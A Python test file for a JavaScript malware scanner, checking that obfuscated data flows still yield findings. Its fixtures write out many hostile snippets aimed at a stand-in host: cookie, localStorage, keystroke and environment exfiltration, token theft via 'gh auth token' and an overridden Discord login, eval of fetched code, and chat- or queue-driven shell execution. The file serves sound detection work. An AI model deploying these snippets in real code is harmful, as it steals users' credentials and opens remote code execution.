"""Detours that hide where data comes from or which function is called still lead to a fact."""

import pytest

from tests.scanners.javascript.reading import read, says

URL = "https://a.example.invalid/"
SEEN = {
    "tagged template": (
        "const run = (parts, ...values) => eval(parts.raw.map((p, i) => p + (values[i] ?? '')).join('')); run`a${'b'}`",
        "code.eval 'ab' [] import {joined}",
    ),
    "any function of a module": (
        "const cp = require('child_process'); bot.on('messageCreate', m => cp[m.content.split(' ')[0]](m.content))",
        "process.start '' [argument,message] runtime {looked_up,shell}",
    ),
    "any of several own functions": (
        (
            "const cp = require('child_process'); const all = { a: x => x, b: x => x, run: x => cp.exec(x) };"
            "require('socket.io-client').io('wss://a.example.invalid').onAny((event, data) => all[event](data))"
        ),
        "process.start '' [network] import {shell}",
    ),
    "any command of several": (
        (
            "const all = { a: { run: x => x }, b: { go: x => require('child_process').exec(x) } };"
            "bot.on('messageCreate', m => all[m.content].go(m.content))"
        ),
        "process.start '' [argument,message] runtime {shell}",
    ),
    "acknowledged answer": (
        (
            "const s = require('socket.io-client').io('wss://a.example.invalid');"
            "s.on('x', (line, done) => done(require('child_process').execSync('id').toString()))"
        ),
        "network.send 'wss://a.example.invalid' [process] import {}",
    ),
    "constructor of asynchronous functions": (
        (
            "const F = Object.getPrototypeOf(async function () {}).constructor;"
            f"(async () => {{ const t = await (await fetch('{URL}')).text(); await new F(t)() }})()"
        ),
        "code.eval '' [network] import {aliased,looked_up}",
    ),
    "generator of answers": (
        (
            f"async function* poll() {{ for (;;) {{ yield await (await fetch('{URL}')).text() }} }}"
            "(async () => { for await (const t of poll()) eval(t) })()"
        ),
        "code.eval '' [network] import {loop}",
    ),
    "generator of another's answers": (
        (
            f"async function* poll() {{ yield (await fetch('{URL}')).json() }}"
            "async function* all() { yield* poll() } (async () => { for await (const t of all()) eval(t.code) })()"
        ),
        "code.eval '' [network] import {}",
    ),
    "found files": (
        (
            "const fs = require('fs'), path = require('path');"
            "fs.readdirSync('/x').filter(d => d).map(d => path.join('/x', d, 'core'))"
            ".flatMap(d => [path.join(d, 'a.js')])"
            ".forEach(f => fs.writeFileSync(f, 'x'))"
        ),
        "file.write '/x/{}/core/a.js' [] import {}",
    ),
    "letters of a text": (
        "eval([...'bmfsu'].map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join(''))",
        "code.eval 'alert' [] import {decoded,joined}",
    ),
    "arguments of a command": (
        "module.exports = { execute(message, args) { eval(args.join(' ')) } }",
        "code.eval '' [argument,message] runtime {}",
    ),
    "arguments of a command in one object": (
        "module.exports = { run: async ({ message, args }) => eval(args[0]) }",
        "code.eval '' [argument,message] runtime {}",
    ),
    "emitted event": (
        (
            "const { EventEmitter } = require('events'); const bus = new EventEmitter();"
            f"bus.on('x', t => fetch('{URL}', {{ method: 'POST', body: t }})); bus.emit('x', process.env)"
        ),
        f"network.send '{URL}' [argument,environment-all] import {{}}",
    ),
    "event emitted before anybody listens": (
        (
            "class Bus extends require('events') {} const bus = new Bus(); bus.emit('x', process.env);"
            f"bus.on('x', t => fetch('{URL}', {{ method: 'POST', body: t }}))"
        ),
        f"network.send '{URL}' [environment-all] import {{}}",
    ),
    "spied environment": (
        (
            "const log = []; process.env = new Proxy(process.env, { get(t, n) { log.push(t[n]); return t[n] } });"
            f"process.on('beforeExit', () => navigator.sendBeacon('{URL}', JSON.stringify(log)))"
        ),
        f"network.send '{URL}' [argument,environment-all] runtime {{}}",
    ),
    "image of a page": (
        f"new Image().src = '{URL}?c=' + document.cookie",
        f"network.send '{URL}?c={{}}' [credentials] import {{}}",
    ),
    "made element": (
        f"const i = document.createElement('img'); i.setAttribute('src', `{URL}${{document.cookie}}`)",
        f"network.send '{URL}{{}}' [credentials] import {{}}",
    ),
    "storage of a page": (
        f"fetch('{URL}', {{ method: 'POST', body: JSON.stringify(localStorage) }})",
        f"network.send '{URL}' [credentials] import {{}}",
    ),
    "keys in a page": (
        (
            "const keys = []; document.addEventListener('keydown', e => keys.push(e.key));"
            f"setInterval(() => fetch('{URL}', {{ method: 'POST', body: keys.join('') }}), 1000)"
        ),
        f"network.send '{URL}' [keys] import {{loop}}",
    ),
    "cookies of a window": (
        (
            "const { session } = require('electron');"
            "(async () => { const c = await session.defaultSession.cookies.get({});"
            f"fetch('{URL}', {{ method: 'POST', body: JSON.stringify({{ c }}) }}) }})()"
        ),
        f"network.send '{URL}' [credentials] import {{}}",
    ),
    "code in a window": (
        (
            "const { webContents } = require('electron');"
            "const t = webContents.getAllWebContents()[0].executeJavaScript('getToken()');"
        ),
        "code.eval 'getToken()' [] import {}",
    ),
    "credential command": (
        (
            "const t = require('child_process').spawnSync('gh', ['auth', 'token']).stdout.toString();"
            f"fetch('{URL}', {{ method: 'POST', body: t }})"
        ),
        f"network.send '{URL}' [credentials,process] import {{}}",
    ),
    "login that is overridden": (
        (
            "class C extends require('discord.js').Client { login(token) {"
            f"fetch('{URL}' + Buffer.from(token).toString('hex')); return super.login(token) }} }}"
        ),
        f"network.send '{URL}{{}}' [argument,secret] runtime {{}}",
    ),
    "compiled import": (
        (
            "var __toESM = (mod, isNode, target) => (target = mod != null ? create(mod) : {}, copy(target, mod));"
            "var cp = __toESM(require('child_process')); cp.default.exec('id')"
        ),
        "process.start 'id' [] import {shell}",
    ),
    "form with a picture": (
        (
            "const F = require('form-data'); require('screenshot-desktop')().then(p => {"
            f"const f = new F(); f.append('a', p); require('axios').post('{URL}', f) }})"
        ),
        f"network.send '{URL}' [screen] import {{}}",
    ),
    "published message": (
        "require('redis').createClient().subscribe('x', text => eval(text))",
        "code.eval '' [network] import {}",
    ),
    "queue": (
        (
            "const c = require('mqtt').connect('mqtt://a.example.invalid');"
            "c.on('message', (topic, body) => require('child_process').exec(body.toString()))"
        ),
        "process.start '' [network] import {shell}",
    ),
    "interceptor": (
        (
            "const axios = require('axios'); axios.interceptors.request.use(c => {"
            f"fetch('{URL}', {{ method: 'POST', body: JSON.stringify(c.headers) }}); return c }})"
        ),
        f"network.send '{URL}' [argument,secret] runtime {{}}",
    ),
}


@pytest.mark.parametrize(("code", "said"), SEEN.values(), ids=SEEN.keys())
def test_detours_are_followed(code: str, said: str) -> None:
    assert said in says(code)


QUIET = {
    "one of a page's cookies": (
        f"const t = document.cookie.match(/xsrf=(.*)/)[1]; fetch('{URL}', {{ headers: {{ 'X-XSRF-TOKEN': t }} }})",
        "secret,",
    ),
    "own class by the name of its parent": (
        "class A extends require('events') {} A.Query = class {}; A.make = () => 1",
        "host.patch",
    ),
    "listener of an emitter of its own": (
        (
            "const all = []; function emit(e, args) { all.forEach(({ listener }) => listener(...args)) }"
            f"fetch('{URL}').then(r => emit('x', [r, config.token]))"
        ),
        "network.send",
    ),
    "picture of a page": ("new Image().src = 'https://a.example.invalid/' + user.id", "network.send"),
    "preference of a page": (
        f"fetch('{URL}?t=' + localStorage.getItem('theme') + localStorage.color)",
        "credentials",
    ),
    "compiled code in the open": (
        "WebAssembly.instantiate(Buffer.from('AGFzbQ==', 'base64'))",
        "code.load",
    ),
}


@pytest.mark.parametrize(("code", "unsaid"), QUIET.values(), ids=QUIET.keys())
def test_honest_neighbours_stay_quiet(code: str, unsaid: str) -> None:
    assert not [line for line in says(code) if unsaid in line]


@pytest.mark.parametrize(
    "text",
    [
        'export declare const a: (p: string) => Promise<import("node:fs").Dirent<string>[] | Error>;\n',
        "export default function (): Pick<A, 'b'>;\n",
        "declare class Mail<out T = S, out D extends O = O> extends E {}\n",
    ],
)
def test_declarations_alone_are_no_broken_script(text: str) -> None:
    assert not read(text, path="index.d.ts").errors


def test_code_in_a_file_of_declarations_is_read() -> None:
    facts = read("x = import('./a'); import('child_process').then(c => c.exec('id'))\n", path="index.d.ts").facts

    assert [fact.detail for fact in facts] == ["id"]
